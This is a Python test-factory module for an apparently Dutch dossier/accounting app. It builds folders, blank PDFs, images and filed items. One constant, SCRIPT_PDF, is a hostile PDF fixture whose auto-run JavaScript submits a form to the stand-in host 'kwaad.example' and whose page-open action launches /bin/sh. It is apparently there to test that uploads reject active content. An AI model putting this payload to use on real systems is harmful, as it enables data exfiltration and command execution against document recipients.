"""Folders and items for tests. An office must be open."""

import io
from itertools import count

from dossier.enums import Source
from dossier.models import DossierItem, Folder
from dossier.queries.tree import folder_by_path
from dossier.rules.filing import file_item
from offices.audit import SYSTEM
from offices.files import Incoming, store
from tests.factories.crm import make_relation

_numbers = count(1)
VAT = "Belastingen/Omzetbelasting"
SCRIPT_PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://kwaad.example'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/AA<</O<</S/Launch/F(/bin/sh)>>>>>>endobj
trailer<</Root 1 0 R>>
"""


def folder(path: str = VAT, relation=None) -> Folder:
    """A folder of the default tree."""
    return folder_by_path(relation, path)


def make_pdf(pages: int = 1, width: int = 595, height: int = 842) -> bytes:
    """A PDF of empty pages."""
    import pypdfium2

    document = pypdfium2.PdfDocument.new()
    for _ in range(pages):
        document.new_page(width, height)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def make_picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    """A picture of one colour."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, (0, 96, 96)).save(out, kind)
    return out.getvalue()


def arriving(content: bytes | None = None, name: str = "brief.txt") -> Incoming:
    """Bytes that came in and are not kept yet."""
    incoming = Incoming(name=name, purpose="dossier")
    incoming.write(content if content is not None else f"brief {next(_numbers)}".encode())
    return incoming


def make_item(
    relation=None, where: Folder | str = VAT, content: bytes | None = None, *, by=SYSTEM, **values
) -> DossierItem:
    """An item; in the folder of VAT returns for 2026 unless told otherwise."""
    relation = relation or make_relation()
    where = folder(where, relation) if isinstance(where, str) else where
    values.setdefault("name", "brief.txt")
    values.setdefault("source", Source.STAFF)
    if where.period_setting != "NONE":
        values.setdefault("year", 2026)
    body = content if content is not None else f"brief {next(_numbers)}".encode()
    return file_item(relation, where, store(body, name=values["name"], purpose="dossier"), by=by, **values)
